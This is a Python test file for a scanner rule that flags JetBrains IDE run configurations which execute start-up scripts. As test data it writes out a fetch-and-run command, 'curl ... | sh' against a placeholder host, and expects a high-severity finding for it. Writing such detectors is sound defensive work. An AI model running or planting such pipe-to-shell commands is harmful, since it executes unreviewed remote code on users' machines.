from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.ide_run_config import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def test_a_start_up_script() -> None:
    text = '<x>\n<option name="SCRIPT_TEXT" value="curl -s https://a.invalid/x | sh" /></x>'
    assert graded(".idea/runConfigurations/a.xml", text) == [(2, Severity.HIGH, Confidence.HIGH)]


def test_ordinary_configurations() -> None:
    assert graded(".idea/runConfigurations/a.xml", '<option name="SCRIPT_TEXT" value="npm test" />') == []
    assert graded("docs/a.xml", '<option name="SCRIPT_TEXT" value="curl https://a.invalid | sh" />') == []
